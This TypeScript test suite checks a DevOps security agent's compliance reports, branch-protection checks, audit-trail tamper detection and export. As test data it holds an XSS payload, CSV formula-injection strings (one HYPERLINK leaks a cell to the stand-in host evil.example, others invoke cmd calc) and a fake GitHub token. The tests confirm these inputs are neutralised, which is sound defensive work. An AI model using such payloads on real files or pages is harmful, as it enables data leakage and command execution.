import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { runAgent } from '../../../../src/agents/runtime/runAgent';
import { eventsCsv } from '../../../../src/agents/security/compliance/auditExport';
import { COMPLIANCE_HTML, COMPLIANCE_MARKDOWN } from '../../../../src/agents/security/compliance/complianceReport';
import { parseSecurityRequest } from '../../../../src/agents/security/parseRequest';
import { securityAgent } from '../../../../src/agents/security/securityAgent';
import { type RepositoryControls, type TrailEvent } from '../../../../src/core/security/repositoryControls';
import { renderHtml, renderMarkdown, type ReportDocument } from '../../../../src/core/security/reportDocument';
import { agentTrailReader, auditDir, listAuditFiles } from '../../../../src/providers/audit';
import { AzureBranchPolicies } from '../../../../src/providers/boards/azureBoards/azureBranchPolicies';
import { GitHubBranchProtection } from '../../../../src/providers/boards/github/githubBranchProtection';
import { makeTracker } from '../../providers/boards/azureBoardsSetup';
import { startTrackers, type TrackerHarness } from '../../providers/boards/github/harness';
import { type Harness as AzureHarness, startHarness } from '../../sandbox/azureDevOps/harness';
import { type Harness, makeHarness } from '../runtime/harness';

interface CheckJson {
  id: string;
  subject: string | null;
  status: string;
  evidence: string[];
  why: string | null;
}

async function report(h: Harness, mode: 'plan' | 'apply' = 'plan') {
  const result = await runAgent(h.services, { agent: securityAgent, action: 'report', input: {}, mode });
  assert.equal(result.outcome, 'succeeded', result.error);
  const checks = (result.plan!.result as unknown as { checks: CheckJson[] }).checks;
  return { result, checks, check: (id: string, subject?: string) => checks.find((c) => c.id === id && (subject === undefined || c.subject?.includes(subject)))! };
}

const event = (over: Partial<TrailEvent>): TrailEvent => ({ seq: 0, timestamp: '2026-12-07T10:00:00.000Z', eventType: 'run.step', service: 'security', user: 'dev', correlationId: 'r1', workItemId: null, repository: null, oldState: null, newState: null, summary: 'ok', hash: 'a'.repeat(64), ...over });

describe('security agent: compliance report and audit export', function () {
  this.timeout(120_000);
  let azure: AzureHarness;
  let gh: TrackerHarness;
  let dir: string;
  let azureControls: RepositoryControls;
  let githubControls: RepositoryControls;

  before(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'compliance-'));
    azure = await startHarness();
    gh = await startTrackers();
    azureControls = new AzureBranchPolicies((await makeTracker(azure, dir, { timeoutMs: 5_000 })).tracker.azure);
    githubControls = new GitHubBranchProtection(gh.trackers.client);
  });
  after(async () => {
    await azure.stop();
    await gh.stop();
    await rm(dir, { recursive: true, force: true });
  });
  afterEach(() => {
    azure.server.faults.clear();
    gh.gh.server.faults.clear();
  });

  it('reads the branch policies of both services through their real clients: Azure main has only an optional reviewer policy, GitHub main needs one review', async () => {
    const a = await azureControls.branchControls();
    assert.equal(a.branch, 'main');
    assert.equal(a.protected, true, 'the blocking work item linking policy protects main');
    assert.equal(a.requiredReviewers, 0, 'an optional (non-blocking) minimum reviewers policy requires nobody');
    assert.ok(a.policies.includes('Work item linking'), a.policies.join(', '));
    assert.ok(a.policies.includes('Minimum number of reviewers (optional)'), a.policies.join(', '));
    const g = await githubControls.branchControls();
    assert.deepEqual([g.branch, g.protected, g.requiredReviewers], ['main', true, 1]);
    assert.ok(g.policies.some((p) => p.includes('non_fast_forward')), g.policies.join(', '));
    assert.ok(g.policies.some((p) => p.includes('status checks (CI / build)')), g.policies.join(', '));
  });

  it('a branch GitHub reports as "Branch not protected" (and no ruleset) fails; it is an answer, not an error', async () => {
    const repo = gh.gh.state.repo('contoso', 'contoso-web')!;
    const saved = { protection: repo.branchProtection, rulesets: repo.rulesets };
    repo.branchProtection = {};
    repo.rulesets = [];
    try {
      const h = await makeHarness({ providers: { repositoryControls: [githubControls] } });
      const { check } = await report(h);
      assert.equal(check('branchProtection').status, 'failed');
      assert.equal(check('requiredReviewers').status, 'failed');
    } finally {
      repo.branchProtection = saved.protection;
      repo.rulesets = saved.rulesets;
    }
  });

  for (const status of [401, 403, 404]) {
    it(`a ${status} from the policy APIs is "not checked" with why, never passed (Azure policy configurations, GitHub protection and rulesets)`, async () => {
      azure.server.faults.add({ route: 'policy.configurations.list', kind: 'status', status });
      gh.gh.server.faults.add({ route: status === 404 ? 'repos.getBranchRules' : 'repos.getBranchProtection', kind: 'status', status });
      const h = await makeHarness({ providers: { repositoryControls: [azureControls, githubControls] } });
      const { checks } = await report(h);
      const repoChecks = checks.filter((c) => c.id === 'branchProtection' || c.id === 'requiredReviewers');
      assert.equal(repoChecks.length, 4);
      for (const c of repoChecks) {
        assert.equal(c.status, 'notChecked', JSON.stringify(c));
        assert.match(c.why ?? '', status === 401 ? /401|credential|sign in/i : status === 403 ? /403|forbidden|permission|access/i : /not found|404/i, c.why ?? '');
      }
    });
  }

  it('with nothing connected, no advisories and an empty trail, nothing passes that was not checked; secrets and the license are judged from the workspace', async () => {
    const h = await makeHarness({ providers: { auditTrail: agentTrailReader(await fs.realpath(dir)) } });
    await h.write('src/config.ts', `export const token = "${['ghp', 'R7kq2ZfX9mWb4Lc8Tn1Yv6Hd3Js5Pe0Ua2Qo'].join('_')}";\n`);
    await h.write('package-lock.json', JSON.stringify({ name: 'x', lockfileVersion: 3, packages: { '': { name: 'x', dependencies: { ms: '2.1.3' } }, 'node_modules/ms': { version: '2.1.3' } } }));
    const { check, result } = await report(h);
    assert.equal(check('secrets').status, 'failed');
    assert.ok(check('secrets').evidence.some((e) => e.includes('src/config.ts:1')), check('secrets').evidence.join('\n'));
    assert.ok(!JSON.stringify(result.plan).includes('R7kq2ZfX9mWb4Lc8'), 'the secret value is in no output');
    assert.equal(check('dependencies').status, 'notChecked');
    assert.equal(check('branchProtection').status, 'notChecked');
    assert.equal(check('requiredReviewers').status, 'notChecked');
    assert.equal(check('auditTrail').status, 'notChecked', 'an empty trail proves nothing');
    assert.equal(check('license').status, 'failed');
  });

  it('writes the Markdown and HTML reports (after approval) with the control map and the evidence; the audit trail verifies', async () => {
    const h = await makeHarness({ providers: { repositoryControls: [githubControls] } });
    h.services.providers!.auditTrail = agentTrailReader(h.root);
    await h.write('LICENSE', 'MIT License\n\nCopyright (c) 2026 Contoso\n');
    await runAgent(h.services, { agent: securityAgent, action: 'scan', input: { only: ['secrets'] }, mode: 'plan' });
    const { check } = await report(h, 'apply');
    assert.equal(check('license').status, 'passed');
    assert.equal(check('auditTrail').status, 'passed');
    assert.match(check('auditTrail').evidence.join(' '), /events? in 1 file verified/);
    assert.equal(check('branchProtection', 'GitHub').status, 'passed');
    const md = (await h.read(COMPLIANCE_MARKDOWN))!;
    assert.match(md, /\| Audit trail intact \| Passed \| .*§164\.312\(b\) audit controls \|/);
    assert.match(md, /Art\. 32\(1\)\(b\)/);
    const html = (await h.read(COMPLIANCE_HTML))!;
    assert.match(html, /<td class="passed">Passed<\/td>/);
    assert.match(html, /Content-Security-Policy/);
  });

  it('a damaged trail fails the audit check, naming the line and what happened', async () => {
    const h = await makeHarness({ providers: {} });
    h.services.providers!.auditTrail = agentTrailReader(h.root);
    await runAgent(h.services, { agent: securityAgent, action: 'scan', input: { only: ['secrets'] }, mode: 'plan' });
    await h.audit.flush();
    const [file] = await listAuditFiles(auditDir(h.root));
    const lines = (await fs.readFile(file!, 'utf8')).split('\n');
    lines[1] = lines[1]!.replace('"security"', '"securitx"');
    await fs.writeFile(file!, lines.join('\n'));
    const { check } = await report(h);
    assert.equal(check('auditTrail').status, 'failed');
    assert.match(check('auditTrail').evidence[0]!, /line 2: edited/);
  });

  describe('rendering outside text (attacks)', () => {
    const attack = '<script>alert(1)</script>"><img src=x onerror=alert(2)> [click](javascript:alert(3)) | cell';
    const doc: ReportDocument = { title: `T ${attack}`, facts: [['By', attack]], sections: [{ heading: attack, blocks: [{ kind: 'paragraph', text: `# ${attack}` }, { kind: 'list', items: [attack] }, { kind: 'table', headers: ['What'], rows: [[attack]] }] }] };

    it('HTML: an event text with a script or an event handler shows as text (XSS refused)', () => {
      const html = renderHtml(doc);
      assert.ok(!/<script/i.test(html), 'no script tag');
      assert.ok(!/<img/i.test(html), 'no img tag');
      assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(2)&gt;'), html);
      assert.match(html, /default-src 'none'/);
    });

    it('Markdown: no link, tag, heading or extra table cell comes from outside text', () => {
      const md = renderMarkdown(doc);
      assert.ok(!/(^|[^\\])<script/.test(md), md);
      assert.ok(!/(^|[^\\])\[click\]\(/.test(md), md);
      assert.ok(!/^# [^T]/m.test(md.split('\n').slice(1).join('\n')), 'no heading from the paragraph');
      const row = md.split('\n').find((l) => l.includes('javascript') && l.startsWith('| '))!;
      assert.equal(row.split(/(?<!\\)\|/).length - 2, 1, `one cell: ${row}`);
    });

    it('CSV: an event text starting with = + - @ or a tab does not become a formula (formula injection refused)', () => {
      const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
      const csv = eventsCsv(attacks.map((summary, seq) => event({ seq, summary, service: summary })));
      const cells = csv.split('\r\n').slice(1).filter(Boolean).flatMap((l) => l.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
      for (const cell of cells) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell starts a formula: ${cell}`);
      for (const a of attacks) assert.ok(csv.includes(`'${a.replace(/"/g, '""')}`), `kept as text: ${a}`);
      assert.match(csv.split('\r\n')[0]!, /^seq,timestamp,eventType,service,user/);
    });
  });

  it('exports a period of the trail as Markdown, HTML and CSV with its verification; other days are left out', async () => {
    const h = await makeHarness({ providers: {} });
    h.services.providers!.auditTrail = agentTrailReader(h.root);
    await runAgent(h.services, { agent: securityAgent, action: 'scan', input: { only: ['secrets'] }, mode: 'plan' });
    const today = new Date().toISOString().slice(0, 10);
    const result = await runAgent(h.services, { agent: securityAgent, action: 'export', input: { days: 1 }, mode: 'apply' });
    assert.equal(result.outcome, 'succeeded', result.error);
    const out = result.plan!.result as unknown as { events: number; verification: { ok: boolean }; reports: string[] };
    assert.ok(out.events >= 3, String(out.events));
    assert.equal(out.verification.ok, true);
    assert.deepEqual(out.reports, [`.devops/reports/audit-${today}_${today}.md`, `.devops/reports/audit-${today}_${today}.html`, `.devops/reports/audit-${today}_${today}.csv`]);
    assert.match((await h.read(out.reports[0]!))!, /Intact: \d+ events in 1 files verified/);
    assert.match((await h.read(out.reports[2]!))!, /run\.started/);
    const old = await runAgent(h.services, { agent: securityAgent, action: 'export', input: { since: '2020-01-01', until: '2020-01-31' }, mode: 'plan' });
    assert.equal((old.plan!.result as unknown as { events: number }).events, 0);
    await assert.rejects(runAgent(h.services, { agent: securityAgent, action: 'export', input: { since: '2026-02-30' }, mode: 'plan' }), /a day of the calendar/);
  });

  it('@devops /security understands the compliance report and the export', () => {
    assert.equal(parseSecurityRequest('compliance report for SOX and HIPAA').action, 'report');
    const exp = parseSecurityRequest('export the audit trail for the last 7 days');
    assert.deepEqual([exp.action, exp.input], ['export', { days: 7 }]);
    assert.equal(parseSecurityRequest('secrets and dependencies').action, undefined);
  });
});
